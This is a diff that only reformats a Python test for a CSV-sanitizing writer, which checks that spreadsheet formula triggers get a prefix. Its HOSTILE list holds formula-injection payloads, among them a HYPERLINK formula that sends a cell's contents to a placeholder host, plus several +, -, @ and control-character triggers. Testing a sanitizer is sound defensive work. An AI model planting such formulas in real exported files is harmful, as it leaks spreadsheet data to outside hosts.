@@ -9,13 +9,25 @@ import pandas as pd
 
 from reform_core import safe_csv
 
-HOSTILE = ['=HYPERLINK("http://x.test/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "'quoted",
-           "plain", "a=b", "", None]
+HOSTILE = [
+    '=HYPERLINK("http://x.test/?"&A1,"Click")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1)",
+    "\t=1",
+    "\r=1",
+    "'quoted",
+    "plain",
+    "a=b",
+    "",
+    None,
+]
 
 
 def test_every_trigger_is_prefixed_and_numbers_are_not(tmp_path):
-    frame = pd.DataFrame({"note": HOSTILE, "score": [-1.5, 2.0, -3.0, 0.0, 1.0, 2.0, 3.0, 4.0, 5.0, 6.0, 7.0],
-                          "=header": range(11)})
+    frame = pd.DataFrame(
+        {"note": HOSTILE, "score": [-1.5, 2.0, -3.0, 0.0, 1.0, 2.0, 3.0, 4.0, 5.0, 6.0, 7.0], "=header": range(11)}
+    )
     path = tmp_path / "x.csv"
     safe_csv.write_csv(frame, path)
     with path.open(newline="", encoding="utf-8") as fh:
